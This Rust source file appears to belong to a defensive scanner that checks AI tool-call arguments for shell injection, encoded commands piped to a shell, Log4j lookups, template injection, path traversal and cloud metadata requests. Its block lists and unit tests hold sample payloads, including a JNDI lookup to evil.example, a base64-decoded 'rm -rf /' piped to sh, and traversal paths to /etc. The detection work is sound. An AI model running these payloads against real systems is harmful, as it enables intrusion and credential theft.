//! The arguments of a tool call as pairs of a name and a text, and what is wrong with single ones.
//!
//! A command in a field that should hold a command is for the rules of [`crate::tool_abuse`]; here are fields whose name
//! promises something small, such as a host or a file's name, and hold more. Bounded in bytes, fields and depth.

use std::net::{IpAddr, Ipv6Addr};

use serde_json::Value;

use crate::addresses::{is_web, parts, url_at};
use crate::bounds::head;
use crate::concept::Concept;
use crate::numeric_host;
use crate::view::Text;

/// The longest arguments that are read, in bytes.
const ARGUMENTS_BYTES_MAX: usize = 64 << 10;
/// How many texts of a call are looked at.
const FIELDS_MAX: usize = 256;
/// How many URLs of a call are looked at.
const URLS_MAX: usize = 64;

/// The arguments of one call.
#[derive(Debug)]
pub struct Arguments(Value);

/// One text among them.
#[derive(Clone, Copy, Debug)]
pub struct Field<'v> {
    /// The nearest name around it.
    pub name: &'v str,
    /// The text.
    pub value: &'v str,
}

impl Field<'_> {
    /// Whether its name is one of `names`, in whatever case.
    pub fn is(&self, names: &[&str]) -> bool {
        names.iter().any(|name| name.eq_ignore_ascii_case(self.name))
    }
}

impl Arguments {
    /// Reads them; `None` where they are too long or no JSON.
    pub fn read(text: &Text<'_>) -> Option<Self> {
        Some(text.raw())
            .filter(|raw| raw.len() <= ARGUMENTS_BYTES_MAX)
            .and_then(|raw| serde_json::from_str(raw).ok())
            .map(Self)
    }

    /// The texts, in order.
    pub fn fields(&self) -> Vec<Field<'_>> {
        let mut fields = Vec::new();
        collect("", &self.0, &mut fields);
        fields
    }
}

fn collect<'v>(name: &'v str, value: &'v Value, fields: &mut Vec<Field<'v>>) {
    match value {
        Value::String(value) if fields.len() < FIELDS_MAX => fields.push(Field { name, value }),
        Value::Array(list) => list.iter().for_each(|value| collect(name, value, fields)),
        Value::Object(object) => object.iter().for_each(|(name, value)| collect(name, value, fields)),
        _ => {}
    }
}

/// Fields that hold a name or a number, never a command.
const SMALL: [&str; 22] = [
    "account",
    "address",
    "branch",
    "city",
    "date",
    "dir",
    "directory",
    "domain",
    "email",
    "file",
    "file_name",
    "filename",
    "host",
    "hostname",
    "id",
    "ip",
    "name",
    "path",
    "port",
    "repo",
    "user",
    "username",
];
/// Programs that injected commands start with.
const PROGRAMS: [&str; 16] = [
    "bash",
    "cat",
    "chmod",
    "curl",
    "env",
    "id",
    "nc",
    "ncat",
    "perl",
    "powershell",
    "python",
    "python3",
    "rm",
    "sh",
    "wget",
    "whoami",
];

/// Whether a field that should be small holds a shell's signs and a command behind them.
pub fn shell_injection(fields: &[Field<'_>]) -> bool {
    fields.iter().any(|field| field.is(&SMALL) && holds_command(field.value))
}

fn holds_command(value: &str) -> bool {
    let starts = value.match_indices([';', '|', '&', '`', '(']).filter_map(|(at, sign)| {
        let substitutes = sign != "(" || value.get(..at)?.ends_with('$');
        let rest = value.get(at + sign.len()..).filter(|_| substitutes)?;
        rest.trim_start_matches([' ', '|', '&']).split(|c: char| !(c.is_alphanumeric() || c == '_')).next()
    });
    starts.take(FIELDS_MAX).any(|word| PROGRAMS.contains(&word))
}

/// Ways to undo an encoding on a command line.
const UNDOING: [&str; 5] = ["base64 -d", "base64 --decode", "openssl base64 -d", "openssl enc -d", "xxd -r"];
/// How far behind them a shell may stand, in bytes.
const TO_SHELL_BYTES_MAX: usize = 80;

/// Whether a field holds code that whoever reads it runs: a command that is encoded, a lookup of Log4j, a template
/// that reaches for the interpreter.
pub fn smuggles_code(fields: &[Field<'_>]) -> bool {
    let to_shell = |value: &str, at: usize| {
        let behind = head(value.get(at..).unwrap_or_default(), TO_SHELL_BYTES_MAX);
        behind.split('|').skip(1).any(|next| {
            ["bash", "sh", "zsh", "python", "python3", "perl"]
                .contains(&next.split_whitespace().next().unwrap_or_default())
        })
    };
    fields.iter().any(|Field { value, .. }| {
        UNDOING.iter().any(|undo| value.match_indices(undo).any(|(at, _)| to_shell(value, at)))
            || value.contains("${jndi:")
            || value.contains("__class__")
                && ["__globals__", "__subclasses__", "popen("].iter().any(|s| value.contains(s))
    })
}

/// Fields that name a file.
const PATHS: [&str; 18] = [
    "dest",
    "destination",
    "dir",
    "directory",
    "document",
    "file",
    "file_name",
    "file_path",
    "filename",
    "filepath",
    "folder",
    "include",
    "key",
    "path",
    "resource",
    "template",
    "uri",
    "url",
];
/// The longest path that is looked at, in bytes (Linux: `PATH_MAX`).
const PATH_BYTES_MAX: usize = 4096;
/// How many folders up lead out of any project that people keep.
const CLIMB_FAR: usize = 5;
/// From how many folders up on a way into the system's own is one out of the application's.
const CLIMB_OUT: usize = 2;
/// Where the system keeps what is its own.
const SYSTEM_FOLDERS: [&str; 10] = ["boot", "dev", "etc", "home", "proc", "root", "sys", "users", "var", "windows"];

/// How surely a field that names a file climbs out of where files of the application are.
pub fn climbs(fields: &[Field<'_>]) -> Option<f32> {
    let scores = fields.iter().filter(|field| field.is(&PATHS)).filter_map(|field| climb(field.value));
    scores.reduce(f32::max)
}

fn climb(path: &str) -> Option<f32> {
    let written = head(path, PATH_BYTES_MAX).to_ascii_lowercase();
    // Twice, since filters decode once.
    let plain = percent_decoded(&percent_decoded(&written)).replace('\\', "/");
    // `....//` becomes `../` where a filter takes `../` away.
    let plain = plain.replace("....//", "../");
    let plain = plain.trim_start_matches("file://");
    let (mut up, mut behind) = (0, None);
    for part in plain.split('/') {
        match part {
            "" | "." => {}
            ".." => (up, behind) = (up + 1, None),
            name => behind = behind.or(Some(name)),
        }
    }
    if up == 0 {
        return None;
    }
    let disguised = ["%2e", "%2f", "%5c", "%c0%af", "%252", "....//", "%00"].iter().any(|sign| written.contains(sign));
    let to_system = up >= CLIMB_OUT && behind.is_some_and(|name| SYSTEM_FOLDERS.contains(&name.trim_end_matches('\0')));
    Some(match (disguised, to_system) {
        (true, _) => 0.8,
        (_, true) => 0.75,
        _ if up >= CLIMB_FAR => 0.55,
        _ => 0.2,
    })
}

/// The text with its percent escapes of ASCII undone.
pub fn percent_decoded(text: &str) -> String {
    let hex = |b: Option<&u8>| b.and_then(|b| char::from(*b).to_digit(16));
    let (bytes, mut out, mut at) = (text.as_bytes(), Vec::with_capacity(text.len()), 0);
    while let Some(b) = bytes.get(at) {
        let escaped = match (b, hex(bytes.get(at + 1)), hex(bytes.get(at + 2))) {
            (b'%', Some(high), Some(low)) if high < 8 => Some((high << 4 | low) as u8),
            _ => None,
        };
        out.push(escaped.unwrap_or(*b));
        at += if escaped.is_some() { 3 } else { 1 };
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Services that hand out a machine's credentials: AWS, Azure, Google and others; Alibaba; Oracle; AWS over IPv6.
const METADATA_V4: [[u8; 4]; 3] = [[169, 254, 169, 254], [100, 100, 100, 200], [192, 0, 0, 192]];
const METADATA_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0x0ec2, 0, 0, 0, 0, 0, 0x0254);

/// Whether a URL of the call leads to a metadata service, in whatever notation.
pub fn asks_metadata(text: &Text<'_>) -> bool {
    urls(text).any(|url| {
        let parts = parts(url);
        is_web(&parts) && is_metadata(parts.host)
    })
}

/// The URLs of a text, in order.
pub fn urls<'t>(text: &'t Text<'_>) -> impl Iterator<Item = &'t str> {
    let starts = text.hits.iter().filter(|hit| hit.concepts.has(Concept::Url)).take(URLS_MAX);
    starts.filter_map(|hit| url_at(text.raw(), text.raw_at(hit.start as usize)))
}

fn is_metadata(host: &str) -> bool {
    let v4 = |octets: [u8; 4]| METADATA_V4.contains(&octets);
    match (numeric_host::ipv4(host), host.parse::<IpAddr>().map(|address| address.to_canonical())) {
        (Some((address, _)), _) => v4(address.octets()),
        (None, Ok(IpAddr::V4(address))) => v4(address.octets()),
        (None, Ok(IpAddr::V6(address))) => address == METADATA_V6,
        (None, Err(_)) => host.eq_ignore_ascii_case("metadata.google.internal"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn metadata_services_are_known_in_every_notation() {
        for host in [
            "169.254.169.254",
            "2852039166",
            "0xa9fea9fe",
            "0251.0376.0251.0376",
            "::ffff:169.254.169.254",
            "100.100.100.200",
            "192.0.0.192",
            "fd00:ec2::254",
            "Metadata.google.internal",
        ] {
            assert!(is_metadata(host), "{host}");
        }
        for host in ["169.254.1.1", "10.0.0.1", "fd00::1", "example.com", ""] {
            assert!(!is_metadata(host), "{host}");
        }
    }

    #[test]
    fn commands_stand_behind_a_shells_signs() {
        for value in ["a.txt; rm -rf x", "$(curl x)", "`id`", "x && wget y", "x|sh", "a; cat /etc/hosts"] {
            assert!(holds_command(value), "{value}");
        }
        for value in ["Smith & Sons", "a;b;c", "R&D (id 7)", "rock | pop", "cat.txt", "f(id)", "&&&&", "", "$("] {
            assert!(!holds_command(value), "{value}");
        }
    }

    #[test]
    fn code_is_smuggled_in_values() {
        let smuggles = |value: &str| smuggles_code(&[Field { name: "x", value }]);
        for value in [
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "base64 --decode <<< aWQ= |bash -s",
            "${jndi:ldap://evil.example/a}",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        ] {
            assert!(smuggles(value), "{value}");
        }
        for value in ["echo aGVsbG8= | base64 -d", "base64 -d key.b64 > key | tee sh.log", "print(x.__class__)", "${x}"]
        {
            assert!(!smuggles(value), "{value}");
        }
    }

    #[test]
    fn paths_climb_out_in_any_dress() {
        for path in [
            "../../etc/hosts",
            "/app/uploads/../../../etc/nginx/nginx.conf",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fsecret",
            "..%252f..%252fboot.ini",
            "....//....//etc/group",
            "file:///srv/../../proc/self/maps",
            "../../../../../../x",
        ] {
            assert!(climb(path).is_some_and(|score| score >= 0.5), "{path}");
        }
        for path in
            ["../src/main.rs", "../../package.json", "../../../lib/mod.rs", "a/../b.txt", "..", "v1..v2", "/etc/hosts"]
        {
            assert!(climb(path).is_none_or(|score| score < 0.5), "{path}");
        }
    }
}
